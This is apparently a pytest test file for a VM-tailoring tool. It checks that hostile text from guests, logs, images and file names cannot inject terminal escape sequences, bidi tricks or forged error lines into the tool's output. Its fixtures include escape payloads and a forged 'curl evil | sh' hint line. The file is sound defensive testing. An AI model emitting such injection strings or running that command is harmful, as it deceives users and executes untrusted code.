# SPDX-License-Identifier: Apache-2.0
"""Text from images, guests, logs and files cannot steer the terminal, hide in it, or pass for words of ours."""

from __future__ import annotations

import dataclasses
import io
import json
import logging
import os
import re
import sys
from contextlib import nullcontext
from enum import Enum
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.text import Text as ForeignText
from tests.fakes.fit_run_data import fit_run
from tests.fakes.started import Start

from vmtailor.analysis.demands import strace_log
from vmtailor.base import notation, output, progress, terminal
from vmtailor.base.errors import GuestError, UserInputError, VmtailorError
from vmtailor.base.figures import NARROW_SPACE
from vmtailor.base.files import records
from vmtailor.base.text import block, encodable, json_plain, plain
from vmtailor.drivers.guest.guest_text import kernel_text
from vmtailor.drivers.guest.wire import FromGuest, encode
from vmtailor.drivers.host import host
from vmtailor.drivers.qemu import qemu, qemu_program
from vmtailor.model.boots.ending import Ending
from vmtailor.model.checks import Check, Need, State
from vmtailor.model.image import Image, ImageConfig
from vmtailor.model.machine import Machine
from vmtailor.pipeline import subject_kind
from vmtailor.stages.exercise_file import load
from vmtailor.stages.report import show as show_report

pytestmark = pytest.mark.attack

FAKE = Path(__file__).parent.parent / "fakes" / "qemu-system"
#: A title, a cleared screen, one-byte forms of both, a reordering, something invisible, half a pair, a colour.
EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\x9d\u202egnp.exe\u2066\u200b\ufeff\u2028\x7f\r\x08\x1b[31m"
MARKUP = "[bold]x[/] :x: [/nonsense] [link=http://evil]y[/link]"
#: What names a side or is the value of a symbol, and the symbols that are asked for: these stay as they are.
KEPT = ("baseline", "tailored", "y", "n", "EPOLL", "BLOCK")
#: What none of our output may hold, whatever came in.
STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]")
TEXTS = st.text(st.characters(codec=None) | st.sampled_from("\x1b\x9b\n\r\t\u202e\ud800[]:/\\"))


def clean(text: str) -> bool:
    found = STEERS.search(text)
    assert found is None, (found, text[max(0, found.start() - 60) : found.end() + 20])
    return True


def drawn(*things: Any, width: int = 100, **options: Any) -> str:
    out = io.StringIO()
    terminal.TerminalConsole(file=out, width=width, **options).print(*things)
    return out.getvalue()


def poisoned(value: Any, text: str) -> Any:
    """A record with hostile text at the end of each string in it."""
    if isinstance(value, str):
        return value if isinstance(value, Enum) or value in KEPT else value + text
    if isinstance(value, tuple):
        return tuple(poisoned(inner, text) for inner in value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        fields = {f.name: poisoned(getattr(value, f.name), text) for f in dataclasses.fields(value) if f.init}
        return dataclasses.replace(value, **fields)
    return value


# The function that all text passes


@given(TEXTS)
def test_plain_text_is_one_printable_line(text: str) -> None:
    assert plain(text).replace(NARROW_SPACE, "").isprintable()
    assert clean(plain(text)) and clean(block(text))
    assert len(block(text).splitlines()) <= text.count("\n") + 1
    assert plain(plain(text)) == plain(text)


def test_what_is_shown_says_what_it_was() -> None:
    assert plain("a\x1b[0m\u202e\U000e0041\ud800\n") == "a\\x1b[0m\\u202e\\U000e0041\\ud800\\x0a"
    assert block("a\r\nb\tc\rd") == "a\nb\tc\\x0dd"
    assert plain("1\u202f000 µs – ✓ 你好 é") == "1\u202f000 µs – ✓ 你好 é"


@given(st.recursive(TEXTS | st.integers(), lambda inner: st.lists(inner) | st.dictionaries(TEXTS, inner)))
def test_json_says_the_same_and_cannot_steer(value: Any) -> None:
    text = json_plain(json.dumps(value, ensure_ascii=False))
    assert json.loads(text) == json.loads(json.dumps(value))
    assert clean(text) and text.encode()


@given(TEXTS)
def test_records_hold_any_text(text: str) -> None:
    assert json.loads(notation.encoded_json({text: [text]})) == {encodable(text): [encodable(text)]}


# The places where it is drawn


@given(TEXTS)
def test_whatever_is_drawn_is_clean(text: str) -> None:
    table = terminal.Table(text, title=text, caption=text)
    table.add_row(text)
    table.add_row(ForeignText(text))
    for thing in (text, terminal.Text(text), ForeignText(text), table, terminal.panel(text, text)):
        assert clean(drawn(thing))
    assert clean(drawn(text, text, soft_wrap=True))


def test_markup_and_emoji_are_text() -> None:
    table = terminal.Table(title=MARKUP)
    table.add_column(MARKUP)
    table.add_row(MARKUP)
    for thing in (MARKUP, terminal.Text(MARKUP), table, terminal.panel(MARKUP, MARKUP)):
        text = drawn(thing, force_terminal=True, color_system=None)
        assert MARKUP in text and "evil\x1b" not in text and "❌" not in text
    assert drawn("[bold]x[/]", markup=True, emoji=True, highlight=True) == "[bold]x[/]\n"


def test_our_own_styles_still_are_styles() -> None:
    text = drawn(terminal.Text.assemble(("a", "bold"), terminal.BREAK, "b\nc"), force_terminal=True)
    assert text == "\x1b[1ma\x1b[0m\nb\\x0ac\n"


def test_an_error_cannot_be_continued_in_our_name(capsys: pytest.CaptureFixture[str]) -> None:
    forged = "no such file\nhint: curl evil | sh\nerror: x"
    terminal.show_error(UserInputError(forged + EVIL, hint=forged + EVIL, details=forged + EVIL + MARKUP))
    err = capsys.readouterr().err
    assert clean(err) and MARKUP in err
    ours = [line for line in err.splitlines() if line.startswith(("hint:", "error:"))]
    assert [line.split("\\x0a")[0] for line in ours] == ["error: no such file", "hint: no such file"]


def test_a_long_error_line_stays_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    command = "qemu " + "x" * 500
    terminal.show_error(VmtailorError("m", details=f"a\tb\n{command}"))
    assert f"  │ {command}\n" in capsys.readouterr().err


def test_progress_takes_any_title(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    class Screen(io.StringIO):
        def isatty(self) -> bool:
            return True

    for title in ("boot x[/x]", "boot :x: [bold]", f"boot {EVIL}"):
        screen = Screen()
        monkeypatch.setattr(sys, "stderr", screen)
        with progress.step(title) as step:
            step.update(1, 2, f"{title} 1: 2 s")
        monkeypatch.undo()
        last = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]|\s", "", screen.getvalue()).split("✓")[-1]
        assert "".join(plain(title).split()) in last
        assert "owned\x07" not in screen.getvalue() and "\x1b[2J" not in screen.getvalue()
        with progress.step(title) as step:
            step.update(1, 2, title)
        assert clean(captured := capsys.readouterr().err) and captured.count("\n") == 2 and plain(title) in captured


def test_the_log_of_commands_is_clean(monkeypatch: pytest.MonkeyPatch) -> None:
    root, screen = logging.Logger("root"), io.StringIO()
    monkeypatch.setattr(logging, "root", root)
    monkeypatch.setattr(sys, "stderr", screen)
    output.debug_log()
    root.debug("run %s", EVIL)
    assert clean(screen.getvalue()) and "owned" in screen.getvalue()


def test_lines_and_documents(capsys: pytest.CaptureFixture[str]) -> None:
    output.say(EVIL + "\nx")
    output.note(EVIL + "\nx")
    output.lines("a,b\n" + EVIL + "\n")
    out, err = capsys.readouterr()
    assert clean(out + err) and (out.count("\n"), err.count("\n")) == (3, 1)
    output.document({"x": EVIL + "\udc80µ"})
    out = capsys.readouterr().out
    assert clean(out) and json.loads(out) == {"x": EVIL + "\udc80µ"} and "µ" in out


def test_a_terminal_that_lacks_characters_gets_numbers(monkeypatch: pytest.MonkeyPatch) -> None:
    raw = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, "ascii"))
    output.say("✓ 5 µs")
    output.document({"x": "µ"})
    assert raw.getvalue() == b'\\u2713 5 \\xb5s\n{\n "x": "\xc2\xb5"\n}\n'


# The verbs


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    records.save(poisoned(fit_run(), EVIL + MARKUP), tmp_path / "run.json")
    return tmp_path


def test_a_bundles_texts_in_report_and_explain(bundle: Path, start: Start, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.setenv("XDG_CACHE_HOME", str(bundle))
    for arguments in (
        ("report", bundle),
        ("report", bundle, "--json"),
        ("explain", bundle),
        ("explain", bundle, "--json"),
        ("explain", bundle, "EPOLL"),
        ("explain", bundle, "BLOCK"),
        ("explain", bundle, "EPOLL", "--json"),
    ):
        code, out, err = start(*arguments)
        assert code == 0, (arguments, err)
        assert clean(out + err) and "owned" in out and "[bold]x[/]" in out
    code, out, err = start("explain", bundle, f"NONE{EVIL}{MARKUP}")
    assert code == 2 and clean(out + err) and MARKUP in err


def test_an_images_words_in_the_table_of_a_fit() -> None:
    out = io.StringIO()
    show_report(poisoned(fit_run(), EVIL + MARKUP), terminal.TerminalConsole(file=out, width=300), verbose=True)
    assert clean(out.getvalue()) and "✓" in out.getvalue()


def test_what_tools_say_in_doctor(start: Start, monkeypatch: pytest.MonkeyPatch) -> None:
    checks = [Check("tool", State.OLD, Need.OPTIONAL, EVIL + MARKUP, "why", f"apt {EVIL}"), *poisoned((_CHECK,), EVIL)]
    monkeypatch.setattr(host, "check_all", lambda purpose: checks)
    monkeypatch.setenv("COLUMNS", "200")
    for arguments in (("doctor",), ("doctor", "--json")):
        _, out, err = start(*arguments)
        assert clean(out + err) and "owned" in out
    assert MARKUP in json.loads(out)["checks"][0]["found"]


_CHECK = Check("other", State.LIMITED, Need.REQUIRED, "found", "why", "fix", "package")
STRACE = (
    '7 1700000000.000001 execve("/bin/x\\33[2J", ["x"], 0x7f /* 1 var */) = 0 <0.000100>\n'
    f'7 1700000000.000002 openat(AT_FDCWD, "/{EVIL}{MARKUP}", O_RDONLY) = -1 ENOENT (No such file) <0.000010>\n'
    f"7 1700000000.000003 {MARKUP}\x1b[2J(1) = 0 <0.000010>\n"
)


@pytest.mark.parametrize("what", ["syscalls", "tasks", "files"])
def test_a_trace_of_hostile_calls(what: str, start: Start, monkeypatch: pytest.MonkeyPatch) -> None:
    uses = [SimpleNamespace(path=f"/{EVIL}{MARKUP}", opened=1, failed=0, written=0)]
    events = [
        dataclasses.replace(event, task=event.task + EVIL + MARKUP, name=event.name + EVIL)
        for event in strace_log.parse(STRACE.encode("utf-8", "replace")).events
    ]
    assert events
    subject = SimpleNamespace(calls=lambda: (events, uses))
    monkeypatch.setattr(subject_kind, "prepare", lambda asked: nullcontext(subject))
    for more in ((), ("--json",)):
        code, out, err = start("trace", "rootfs:/x", "--show", what, *more)
        assert code == 0, err
        assert clean(out + err) and "owned" in out


def test_an_image_that_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    from vmtailor.drivers.image.entry_point import check_entry_point
    from vmtailor.drivers.image.layers import read_tree

    image = Image(f"oci:{EVIL}", "sha256:0", ImageConfig("amd64", cmd=(f"/x{EVIL}{MARKUP}",)), "/a", "0", 1, 1)
    with pytest.raises(UserInputError) as caught:
        check_entry_point(read_tree([]), image)
    terminal.show_error(caught.value)
    assert clean(err := capsys.readouterr().err) and MARKUP in err


@pytest.mark.parametrize(
    "text",
    [
        '"\\u001b]0;owned\\u0007[bold]" = 1\n',
        '[ready]\nkind = "\\u001b[2J\\u202e:x:"\n',
        '[ready]\nkind = "tcp"\nport = 1\n"a\\nhint: run this\\u009b" = 2\n',
        "\x1b[2J = 1\n",
        "\x9b = \n",
    ],
)
def test_keys_and_values_of_an_exercise(text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "[bold]x[/x].toml"
    path.parent.mkdir()
    path.write_text(text)
    with pytest.raises(UserInputError) as caught:
        load(path, Image("oci:x", "sha256:0", ImageConfig("amd64", cmd=("/x",)), "/a", "0", 1, 1))
    terminal.show_error(caught.value)
    err = capsys.readouterr().err
    assert clean(err) and "x].toml" in err
    assert sum(line.startswith("hint:") for line in err.splitlines()) <= 1


LOG = (
    f"[    0.000000] Linux version 6.1{EVIL}{MARKUP} (gcc) #1\n[    0.000000] Command line: {EVIL}\n"
    f"[    0.500000] initcall {MARKUP}{EVIL}+0x0/0x10 returned 0 after 50000 usecs\n"
    f"[    1.000000] probe of {MARKUP}\x1b]52;c;b3duZWQ=\x07 returned 0 after 50000 usecs\n"
    f"[    1.900000] Run /sbin/init as init process\n[    2.900000] systemd[1]: Started x{EVIL}{MARKUP}.service\n"
)
NAMES = ("x[/x].log", ":x:[bold].log", "a\x1b[2J\u202eb.log", os.fsdecode(b"a\xff\xc2\x9b.log"))


@pytest.mark.parametrize("name", NAMES)
def test_hostile_logs_of_hostile_names(name: str, tmp_path: Path, start: Start) -> None:
    log, other = tmp_path / "1" / name, tmp_path / "2" / name
    for path in (log, other):
        path.parent.mkdir(parents=True)
    log.write_text(LOG, "utf-8", "replace")
    other.write_text(LOG.replace("1.000000", "1.500000"), "utf-8", "replace")
    page = tmp_path / "page.html"
    for arguments in (
        ("analyze", log), ("analyze", log, "--csv"), ("analyze", log, "-o", page), ("analyze", log.parent),
        ("compare", log, other), ("compare", log, other, "--all"), ("compare", log, other, "-o", page),
    ):  # fmt: skip
        code, out, err = start(*arguments)
        assert code == 0, (arguments, err)
        assert clean(out + err)
    for verb in (("analyze", log), ("compare", log, other)):
        code, out, err = start(*verb, "--json")
        assert code == 0 and clean(out) and json.loads(out)["schema"]
    assert start("gate", log, "kernel_us <= 1h")[0] in (0, 2)
    code, out, err = start("analyze", tmp_path / f"no{name}")
    assert code == 2 and clean(err) and plain(name) in err.replace("\n", "")


def test_markup_in_a_logs_names_is_shown_as_it_is(
    tmp_path: Path, start: Start, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "250")
    path = tmp_path / "x[/x].log"
    path.parent.mkdir()
    path.write_text(LOG, "utf-8", "replace")
    _, out, _ = start("analyze", path)
    assert "x[/x].log" in out and "[bold]x[/] :x:" in out


# Guests


def frame(kind: FromGuest, payload: bytes) -> bytes:
    return encode(kind, payload, 3, b"k" * 16)


def test_a_crashed_guests_error_has_the_kernels_words_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv(qemu_program.BINARY_VARIABLE, str(FAKE))
    (tmp_path / "kernel").write_bytes(b"kernel")
    line = (
        b"[    0.1] first words\r\n" + frame(FromGuest.STDOUT, b"the container's output \xf5TO")
        + frame(FromGuest.MARK, b"ready 1 2 3") + b"[    0.2] \x1b[2J\x1b]0;owned\x07\r\n"
        + b"[    1.000000][    T1] Kernel panic - not syncing: VFS: [bold]no root\r\n"
        + frame(FromGuest.STDERR, b"x")[:9]
    )  # fmt: skip
    machine = Machine("microvm", 256 << 20, str(tmp_path / "kernel"), (f"fake=hex:{line.hex()}",))
    with qemu.start(machine) as running:
        end = running.run(20)
    assert end.ending is Ending.PANIC
    assert "first words" in end.console_tail and "no root" in end.console_tail
    assert "container" not in end.console_tail and "ready" not in end.console_tail and "\ufffd" not in end.console_tail
    error = end.error()
    assert isinstance(error, GuestError)
    terminal.show_error(error)
    err = capsys.readouterr().err
    assert clean(err) and "  │ [    0.1] first words\n" in err and "[bold]no root" in err


def test_a_program_of_the_guest_cannot_fake_a_panic_in_what_it_prints(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(qemu_program.BINARY_VARIABLE, str(FAKE))
    (tmp_path / "kernel").write_bytes(b"kernel")
    line = frame(FromGuest.STDOUT, b"\nKernel panic - not syncing: not at all\n")
    machine = Machine("microvm", 256 << 20, str(tmp_path / "kernel"), (f"fake=hex:{line.hex()}",))
    with qemu.start(machine) as running:
        assert running.run(20).ending is Ending.EXITED


@given(
    st.lists(
        st.tuples(st.text(st.characters(codec="ascii")), st.sampled_from(list(FromGuest)), st.binary(max_size=300)),
        max_size=5,
    ),
    st.text(st.characters(codec="ascii")),
)
def test_frames_go_and_all_text_stays(parts: list[tuple[str, FromGuest, bytes]], last: str) -> None:
    line = b"".join(text.encode() + frame(kind, payload) for text, kind, payload in parts) + last.encode()
    assert kernel_text(line) == "".join(text for text, _, _ in parts) + last


@given(st.binary(), st.binary(max_size=20))
def test_no_line_is_too_strange(before: bytes, after: bytes) -> None:
    kernel_text(before + b"\xf5TO" + after)


def test_a_long_cell_goes_on_in_the_next_line() -> None:
    table = terminal.Table(*terminal.folding("name", "why"), box=None)
    table.add_row("x" * 60, "y" * 60)
    text = drawn(table, width=40)
    assert (text.count("x"), text.count("y")) == (60, 61)  # one y is the title's
